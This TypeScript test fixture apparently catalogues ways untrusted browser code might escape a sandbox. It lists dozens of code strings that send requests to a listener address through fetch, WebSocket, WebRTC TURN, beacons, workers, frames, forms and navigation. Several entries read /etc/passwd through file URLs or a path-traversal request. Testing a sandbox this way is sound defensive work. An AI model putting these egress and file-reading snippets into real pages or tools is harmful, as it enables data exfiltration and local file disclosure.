/** One way out that a hostile mini-program may try. `w` is the real window (sloppy `this`), `at` is host:port of the listener. */
export interface Attempt {
  readonly name: string;
  readonly code: string;
  /** A load that page content may make: it must come by the proxy, and only there. */
  readonly viaProxy?: true;
}

const add = (html: string): string =>
  `const d = w.document.createElement('div'); d.innerHTML = ${html}; w.document.body.append(d);`;

export const ATTEMPTS: readonly Attempt[] = [
  { name: 'fetch', code: 'return w.fetch("http://" + at + "/fetch")' },
  { name: 'fetch no-cors', code: 'return w.fetch("http://" + at + "/nocors", {mode: "no-cors", method: "POST", body: "x"})' },
  { name: 'fetch keepalive', code: 'return w.fetch("https://" + at + "/keepalive", {keepalive: true})' },
  { name: 'fetch of a file', code: 'return w.fetch("file:///etc/passwd").then((r) => r.text())' },
  { name: 'XMLHttpRequest', code: 'const x = new w.XMLHttpRequest(); x.open("GET", "http://" + at + "/xhr"); x.send()' },
  { name: 'synchronous XMLHttpRequest', code: 'const x = new w.XMLHttpRequest(); x.open("GET", "http://" + at + "/sync", false); x.send()' },
  { name: 'WebSocket', code: 'new w.WebSocket("ws://" + at + "/ws")' },
  { name: 'secure WebSocket', code: 'new w.WebSocket("wss://" + at + "/wss")' },
  { name: 'EventSource', code: 'new w.EventSource("http://" + at + "/es")' },
  { name: 'sendBeacon', code: 'w.navigator.sendBeacon("http://" + at + "/beacon", "x")' },
  { name: 'WebTransport', code: 'new w.WebTransport("https://" + at + "/wt")' },
  { name: 'RTCPeerConnection STUN', code: 'const p = new w.RTCPeerConnection({iceServers: [{urls: "stun:" + at}]}); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o))' },
  { name: 'RTCPeerConnection TURN over TCP', code: 'const p = new w.RTCPeerConnection({iceServers: [{urls: "turn:" + at + "?transport=tcp", username: "u", credential: "c"}]}); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o))' },
  {
    name: 'RTCPeerConnection of a fresh frame',
    code: 'const f = w.document.createElement("iframe"); w.document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "turn:" + at + "?transport=tcp", username: "u", credential: "c"}]}); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o))',
  },
  {
    name: 'fetch of a fresh frame',
    code: 'const f = w.document.createElement("iframe"); w.document.body.append(f); return f.contentWindow.fetch("http://" + at + "/freshframe")',
  },
  {
    name: 'eval of a fresh frame',
    code: 'const f = w.document.createElement("iframe"); w.document.body.append(f); const r = f.contentWindow.eval("1+1"); throw new Error("EVAL " + r)',
  },
  { name: 'window.open', code: 'w.open("http://" + at + "/open")' },
  { name: 'window.open without opener', code: 'w.open("http://" + at + "/noopener", "_blank", "noopener")' },
  { name: 'link with target', code: 'const a = w.document.createElement("a"); a.href = "http://" + at + "/a"; a.target = "_blank"; w.document.body.append(a); a.click()' },
  { name: 'link with ping', code: 'const a = w.document.createElement("a"); a.href = "#x"; a.ping = "http://" + at + "/ping"; w.document.body.append(a); a.click()' },
  { name: 'download', code: 'const a = w.document.createElement("a"); a.href = "http://" + at + "/dl"; a.download = "x"; w.document.body.append(a); a.click()' },
  { name: 'location', code: 'w.location = "http://" + at + "/location"' },
  { name: 'location.replace', code: 'w.location.replace("https://" + at + "/replace")' },
  { name: 'form GET', code: `${add('\'<form action="http://\' + at + \'/form"><input name=a value=b></form>\'')} d.firstChild.submit()` },
  { name: 'form POST into a popup', code: `${add('\'<form method=post target=_blank action="http://\' + at + \'/post"><input name=a value=b></form>\'')} d.firstChild.submit()` },
  { name: 'meta refresh', code: 'const m = w.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://" + at + "/meta"; w.document.head.append(m)' },
  { name: 'base href', code: 'const b = w.document.createElement("base"); b.href = "http://" + at + "/"; w.document.head.append(b)' },
  { name: 'script', code: 'const s = w.document.createElement("script"); s.src = "http://" + at + "/s.js"; w.document.head.append(s)' },
  { name: 'module script', code: 'const s = w.document.createElement("script"); s.type = "module"; s.src = "https://" + at + "/m.js"; w.document.head.append(s)' },
  { name: 'import()', code: 'const s = w.document.createElement("script"); s.textContent = "import(\'http://" + at + "/i.js\')"; w.document.head.append(s)' },
  { name: 'dns-prefetch and preconnect', code: 'for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender"]) { const l = w.document.createElement("link"); l.rel = rel; l.href = "http://" + at + "/" + rel; w.document.head.append(l) }' },
  { name: 'speculation rules', code: 'const s = w.document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: ["http://" + at + "/spec"]}]}); w.document.head.append(s)' },
  { name: 'worker from a blob', code: 'new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch(\'http://" + at + "/worker\')"])))' },
  { name: 'shared worker', code: 'new w.SharedWorker("data:text/javascript,fetch(\'http://" + at + "/shared\')")' },
  { name: 'service worker', code: 'return w.navigator.serviceWorker.register("/__asset/sw.js")' },
  { name: 'object and embed', code: add('\'<object data="http://\' + at + \'/object"></object><embed src="http://\' + at + \'/embed">\'') },
  { name: 'frame from a data URL that fetches', code: add('\'<iframe src="data:text/html,<script>fetch(%27http://\' + at + \'/dataframe%27,{mode:%27no-cors%27})</script>"></iframe>\'') },
  { name: 'frame from srcdoc that fetches', code: 'const f = w.document.createElement("iframe"); f.srcdoc = "<script>fetch(\'http://" + at + "/srcdoc\')</script>"; w.document.body.append(f)' },
  { name: 'frame of a file', code: add('\'<iframe src="file:///etc/passwd"></iframe>\'') },
  { name: 'WebAssembly from the network', code: 'return w.WebAssembly.compileStreaming(w.fetch("http://" + at + "/x.wasm"))' },
  { name: 'file outside of the project', code: 'return w.fetch("/__asset/..%2f..%2f..%2fetc/passwd").then((r) => { if (r.ok) throw new Error("LEAK") })' },
  { name: 'image', code: 'new w.Image().src = "http://" + at + "/image"', viaProxy: true },
  { name: 'image over TLS', code: 'new w.Image().src = "https://" + at + "/image-tls"', viaProxy: true },
  { name: 'css background', code: 'w.document.body.style.background = "url(http://" + at + "/css)"', viaProxy: true },
  { name: 'css import', code: 'const s = w.document.createElement("style"); s.textContent = "@import url(http://" + at + "/import.css);"; w.document.head.append(s)' },
  { name: 'font', code: 'const s = w.document.createElement("style"); s.textContent = "@font-face{font-family:f;src:url(http://" + at + "/font)} body{font-family:f}"; w.document.head.append(s); w.document.body.append("x")', viaProxy: true },
  { name: 'audio', code: 'const a = w.document.createElement("audio"); a.src = "http://" + at + "/audio"; a.preload = "auto"; w.document.body.append(a); a.load()', viaProxy: true },
  { name: 'frame', code: add('\'<iframe src="http://\' + at + \'/frame"></iframe>\''), viaProxy: true },
]; // biome-ignore format: a table
